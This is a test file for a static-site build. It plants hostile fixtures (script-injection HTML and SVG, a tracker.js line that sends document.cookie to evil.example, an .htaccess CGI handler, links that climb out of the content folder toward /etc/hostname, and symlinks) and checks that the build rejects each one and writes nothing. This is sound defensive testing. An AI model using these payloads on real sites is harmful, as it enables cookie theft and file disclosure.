"""Static content is an allow-list, only Markdown stories are read, nothing leaves content/.

Hostile files are made by the test in a copy of content/ (never committed):
pages and scripts in the static folders, symbolic links to files and folders
outside content/, ``{static}`` and ``{attach}`` links that climb out of it,
stories that are not Markdown. One build of all of them must fail with one
clear line per problem, leave the previous output as it was and write nothing
anywhere else; the build before it shows that the allowed files are published.
"""

from __future__ import annotations

import hashlib
import logging
import os
import re
from pathlib import Path

import pytest

from helpers.building import ARTICLE_URL, copy_content, error_lines, run_build
from plugins.content_checks import static_files
from plugins.content_checks.static_files import static_problem, story_problem
from newsroom.core.settings import DEFAULTS

DEFAULT_STATIC_FILE_TYPES = DEFAULTS["STATIC_FILE_TYPES"]

HEAD = "Title: {title}\nDate: 2024-06-01\nCategory: News\n\n"
# The smallest file a PDF reader opens; its type is all that matters here.
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
HOSTNAME = Path("/etc/hostname")
CLIMB = "../" * 12  # from content/ to the root of any test machine, and beyond


def story(title: str, body: str) -> str:
    return HEAD.format(title=title) + body + "\n"


# Allowed files, in both builds: published as they are (or, sidecars and
# README.md, not at all).
ALLOWED = {
    "extra/report.pdf": PDF,
    "extra/results.csv": "constituency,votes\nNairobi,1200\n",
    "extra/statement.txt": "The full statement, as released.\n",
    "README.md": "# content/\n\nWhat goes where (not published).\n",
    "images/ruto-conille.jpg.sidecar.txt": "# read by the photos plugin\ncredit: Sidecar Desk\n",
    "images/.DS_Store": b"\x00\x00\x00\x01Bud1",
    "articles/2024-06-15-draft.md~": "an editor's backup file\n",
}

# file (under content/) -> (bytes or text, pattern of its one error line)
HOSTILE = {
    "extra/page.html": (
        "<script>alert(document.cookie)</script>",
        r"^content/extra/page\.html: \.html files are web pages that run script on the "
        r"site's own address; write the text as a Markdown story or page \(\.md\) instead$",
    ),
    "extra/old.htm": (
        "<p onload=alert(1)>",
        r"^content/extra/old\.htm: \.htm files are web pages that run script",
    ),
    "extra/chart.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        r"^content/extra/chart\.svg: \.svg files may run script on the site; "
        r"export it as PNG \(or WebP\) and link that$",
    ),
    "images/logo.svg": (
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        r"^content/images/logo\.svg: \.svg files may run script on the site; export it as PNG",
    ),
    "images/tracker.js": (
        "fetch('https://evil.example/?' + document.cookie)",
        r"^content/images/tracker\.js: \.js files are code that runs on every page that "
        r"loads it, allowed by the site's Content-Security-Policy",
    ),
    "extra/module.mjs": (
        "export default 1;",
        r"^content/extra/module\.mjs: \.mjs files are code that runs on every page",
    ),
    "extra/feed.xml": (
        '<?xml-stylesheet href="x.xsl"?><x/>',
        r"^content/extra/feed\.xml: \.xml files may be shown as web pages \(XHTML, XSLT\)",
    ),
    "extra/.htaccess": (
        "AddHandler cgi-script .txt\n",
        r"^content/extra/\.htaccess: configures the web server .*; remove it$",
    ),
    "extra/interview.docx": (
        b"PK\x03\x04 not really a Word file",
        r"^content/extra/interview\.docx: \.docx files are not published; static folders may "
        r"only hold \.jpg, \.jpeg, \.png, \.webp, \.avif, \.gif, \.tif, \.tiff, \.pdf, \.csv, "
        r"\.txt \(STATIC_FILE_TYPES in pelicanconf\.py\): convert it to one of them or remove it$",
    ),
    # Stories that are not Markdown: never read, each one named.
    "articles/2024-06-01-old.rst": (
        "Old story\n#########\n\n:date: 2024-06-01\n:category: News\n\nText.\n",
        r"^content/articles/2024-06-01-old\.rst: stories are Markdown \(\.md\) files; convert "
        r"it with `pandoc 2024-06-01-old\.rst -o 2024-06-01-old\.md` and check the "
        r"metadata block \(Title:, Date:, Category:\) at its top$",
    ),
    "articles/2024-06-02-plain.txt": (
        story("Plain text", "A story saved as .txt."),
        r"^content/articles/2024-06-02-plain\.txt: stories are Markdown \(\.md\) files; "
        r"rename it to 2024-06-02-plain\.md \(plain text is Markdown\)",
    ),
    "articles/2024-06-03-word.docx": (
        b"PK\x03\x04",
        r"^content/articles/2024-06-03-word\.docx: stories are Markdown \(\.md\) files; "
        r"convert it with `pandoc 2024-06-03-word\.docx -o 2024-06-03-word\.md`",
    ),
    "pages/legacy.html": (
        "<h1>Legacy</h1><script>alert(1)</script>",
        r"^content/pages/legacy\.html: stories are Markdown \(\.md\) files; convert it with "
        r"`pandoc legacy\.html -o legacy\.md`",
    ),
    "articles/2024-06-04-shouting.MD": (
        story("Shouting", "Text."),
        r"^content/articles/2024-06-04-shouting\.MD: the extension must be lowercase for the "
        r"file to be read; rename it to 2024-06-04-shouting\.md$",
    ),
    "articles/photo-beside-story.jpg": (
        b"\xff\xd8\xff",
        r"^content/articles/photo-beside-story\.jpg: stories are Markdown \(\.md\) files, and "
        r"photos and documents go in the static folders",
    ),
    # A linked file outside the static folders is still only published if allowed.
    "misc/evil.html": (
        "<script>alert(1)</script>",
        r"^content/misc/evil\.html: \.html files are web pages that run script",
    ),
    "articles/links-evil.md": (
        story("Links a page", "[The document]({static}/misc/evil.html)"),
        None,
    ),
    # Links that climb out of content/ (reported with their line by links.py).
    "articles/climbs.md": (
        story("Climbs", "\n".join([
            "[secret]({static}/../secret.txt)",
            "[note]({static}/../../note.txt)",
            f"[host]({{static}}/{CLIMB}etc/hostname)",
            "[attached]({attach}../../secret.txt)",
        ])),
        r'^content/articles/climbs\.md:5: "\{static\}/\.\./secret\.txt" points outside the '
        r"content folder",
    ),
}
CLIMBING_LINES = {
    6: r'^content/articles/climbs\.md:6: "\{static\}/\.\./\.\./note\.txt" points outside',
    7: r'^content/articles/climbs\.md:7: "\{static\}/(\.\./)+etc/hostname" points outside',
    8: r'^content/articles/climbs\.md:8: "\{attach\}\.\./\.\./secret\.txt" points outside',
}
LINKS = {
    "images/hostname.jpg": r"^content/images/hostname\.jpg: is a symbolic link; copy the "
                           r"file itself into content/ \(links are not followed",
    "images/outside-folder": r"^content/images/outside-folder: is a symbolic link; copy the "
                             r"folder itself into content/",
    "articles/2024-06-05-linked.md": r"^content/articles/2024-06-05-linked\.md: is a symbolic "
                                     r"link; copy the file itself into content/",
}


def write(path: Path, data) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8")


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (links not followed) and a hash of its bytes."""
    files = {}
    for dirpath, _dirs, names in os.walk(folder):
        for name in names:
            path = Path(dirpath, name)
            files[str(path.relative_to(folder))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return files



def stat_of(path: Path):
    return (path.stat().st_mtime_ns, path.stat().st_size) if path.exists() else None


@pytest.fixture(scope="module")
def builds(tmp_path_factory):
    """A good build into output/, then the hostile build into the same output/."""
    folder = tmp_path_factory.mktemp("static")
    content = copy_content(folder / "site")
    for name, data in ALLOWED.items():
        write(content / name, data)
    # Files outside content/ that links try to reach.
    write(folder / "site" / "secret.txt", "SECRET: outside content/\n")
    write(folder / "note.txt", "NOTE: outside content/\n")
    write(folder / "site" / "outside" / "private.pdf", PDF)
    write(folder / "site" / "outside" / "story.md", story("Outside", "Not in content/."))
    output = folder / "output"
    overrides = {"PATH": str(content)}
    good = run_build(output, overrides=overrides, search=False)
    before = {
        "output": snapshot(output),
        "folder": sorted(os.listdir(folder)),
        "parent": sorted(os.listdir(folder.parent)),
        "site": sorted(os.listdir(folder / "site")),
        "hostname": stat_of(HOSTNAME),
    }
    for name, (data, _pattern) in HOSTILE.items():
        write(content / name, data)
    (content / "images" / "hostname.jpg").symlink_to(HOSTNAME)
    (content / "images" / "outside-folder").symlink_to(folder / "site" / "outside")
    (content / "articles" / "2024-06-05-linked.md").symlink_to(
        folder / "site" / "outside" / "story.md")
    # An Emacs lock file is a dangling link; IGNORE_FILES has ".#*".
    (content / "articles" / ".#2024-06-15-draft.md").symlink_to("user@host.1234:1700000000")
    hostile = run_build(output, overrides=overrides, search=False)
    return {"folder": folder, "content": content, "good": good, "hostile": hostile,
            "before": before}


def test_allowed_files_are_published(builds):
    good = builds["good"]
    assert good.returncode == 0, good.stderr
    assert (good.output / "extra" / "report.pdf").read_bytes() == PDF
    assert (good.output / "extra" / "results.csv").is_file()
    assert (good.output / "extra" / "statement.txt").is_file()
    # The sidecar still works: its credit is on the photo; the file is not published.
    credits = good.page(ARTICLE_URL).xpath('//figure[@class="photo"]//span[@class="credit"]')
    assert "Sidecar Desk" in [credit.text_content().strip() for credit in credits]
    published = snapshot(good.output)
    assert not [name for name in published if name.endswith((".sidecar.txt", "README.md",
                                                             ".DS_Store", "~"))]


def test_hostile_build_fails_with_one_line_per_problem(builds):
    hostile = builds["hostile"]
    assert hostile.returncode == 1
    assert "Traceback" not in hostile.stderr + hostile.stdout
    lines = error_lines(hostile)
    patterns = [p for _data, p in HOSTILE.values() if p] + list(CLIMBING_LINES.values())
    patterns += list(LINKS.values())
    for pattern in patterns:
        matching = [line for line in lines if re.search(pattern, line)]
        assert len(matching) == 1, (pattern, "\n".join(lines))
    assert len(lines) == len(patterns), "\n".join(lines)


def test_hostile_build_changes_nothing(builds):
    before, folder = builds["before"], builds["folder"]
    assert snapshot(builds["hostile"].output) == before["output"]
    # Nothing beside the output, the content or above them (where the
    # climbing links would have been written), and /etc/hostname untouched.
    assert sorted(os.listdir(folder)) == before["folder"]
    assert sorted(os.listdir(folder.parent)) == before["parent"]
    assert sorted(os.listdir(folder / "site")) == before["site"]
    assert stat_of(HOSTNAME) == before["hostname"]


def test_messages_show_no_paths_of_this_machine(builds):
    for line in error_lines(builds["hostile"]):
        assert str(builds["folder"]) not in line
        assert not re.search(r"(^|\s)/\w", line), line


def test_a_linked_static_folder_is_not_walked(tmp_path):
    """A static folder that is itself a link: reported, and nothing in it is read."""
    content = copy_content(tmp_path / "site")
    outside = tmp_path / "outside"
    write(outside / "page.html", "<script>alert(1)</script>")
    write(outside / "report.pdf", PDF)
    (content / "extra").symlink_to(outside, target_is_directory=True)
    before = sorted(os.listdir(tmp_path))
    result = run_build(tmp_path / "output", overrides={"PATH": str(content)}, search=False)
    assert result.returncode == 1
    assert error_lines(result) == [
        "content/extra: is a symbolic link; copy the folder itself into content/ (links are "
        "not followed: they could publish any file of this computer)"]
    assert sorted(os.listdir(tmp_path)) == before


# --- the rules, on their own --------------------------------------------------------

@pytest.mark.parametrize("name", ["x.html", "X.HTM", "x.xhtml", "x.svg", "x.svgz", "x.xml",
                                  "x.js", "x.mjs", "x.css", "x.swf", "x.wasm", "x.php",
                                  "x.exe", ".htaccess", "x.md", "x.docx", "noextension",
                                  ".env", "x.jpg.html"])
def test_static_problem_refuses(name):
    problem = static_problem(f"extra/{name}")
    assert problem
    extension = name.rsplit(".", 1)[-1].lower()
    specific = extension in static_files.DANGEROUS_TYPES or name == ".htaccess"
    # A dangerous type gets its own reason; anything else the allowed types.
    assert ("STATIC_FILE_TYPES" not in problem) == specific, problem


@pytest.mark.parametrize("name", ["x.jpg", "X.JPEG", "x.png", "x.webp", "x.avif", "x.gif",
                                  "x.tif", "x.pdf", "x.csv", "x.txt",
                                  "x.jpg.sidecar.txt"])
def test_static_problem_allows(name):
    assert static_problem(f"images/{name}") is None


def test_static_problem_follows_the_setting():
    assert static_problem("extra/x.pdf", {"jpg": "photo"})
    assert static_problem("extra/x.mp3", {**DEFAULT_STATIC_FILE_TYPES, "mp3": "audio"}) is None


@pytest.mark.parametrize("name, allowed", [("x.md", True), ("x.markdown", True),
                                           ("x.rst", False), ("x.txt", False),
                                           ("x.html", False), ("x.odt", False),
                                           ("x.rtf", False), ("x.doc", False),
                                           ("x.Md", False), ("x", False)])
def test_story_problem(name, allowed):
    assert (story_problem(f"articles/{name}") is None) == allowed


class FakeStatic:
    def __init__(self, source_path: str, save_as: str | None = None):
        self.source_path = source_path
        self._save_as = save_as or source_path

    def get_url_setting(self, key: str) -> str:
        assert key == "save_as"
        return self._save_as

    @property
    def save_as(self):  # reading it would stop {attach} from moving the file
        raise AssertionError("the guard must not read save_as")


class FakeGenerator:
    def __init__(self, content: Path, output: Path, staticfiles):
        self.settings = {"PATH": str(content), "STATIC_FILE_TYPES": DEFAULT_STATIC_FILE_TYPES}
        self.output_path = str(output)
        self.staticfiles = list(staticfiles)
        self.context = {"staticfiles": self.staticfiles, "generated_content": {}}


def test_the_last_guard_drops_and_reports(tmp_path, caplog):
    """Whatever Pelican resolved itself: outside content/, not allowed, or written outside."""
    content = tmp_path / "content"
    write(content / "extra" / "ok.pdf", PDF)
    write(tmp_path / "secret.txt", "x")
    files = [FakeStatic("extra/ok.pdf"), FakeStatic("../secret.txt"),
             FakeStatic("extra/x.svg"), FakeStatic("images/a.jpg.sidecar.txt"),
             FakeStatic("extra/ok2.pdf", save_as="../../written-outside.pdf")]
    generator = FakeGenerator(content, tmp_path / "output", files)
    static_files.forget_previous_build()
    try:
        with caplog.at_level(logging.ERROR, logger="newsroom.core.problems"):
            static_files.check_static_files(generator)
    finally:
        from newsroom.core.problems import forget_problems
        forget_problems()
    assert [f.source_path for f in generator.context["staticfiles"]] == ["extra/ok.pdf"]
    messages = [record.getMessage() for record in caplog.records]
    assert messages == [
        "secret.txt: is outside content/ (or reached through a symbolic link), and only "
        "files inside it may be published; copy the file into content/ (photos in images/, "
        "documents in extra/) and link it from there",
        "content/extra/x.svg: .svg files may run script on the site; export it as PNG "
        "(or WebP) and link that",
        "content/extra/ok2.pdf: would be written outside the output folder; check "
        "EXTRA_PATH_METADATA in the settings",
    ]
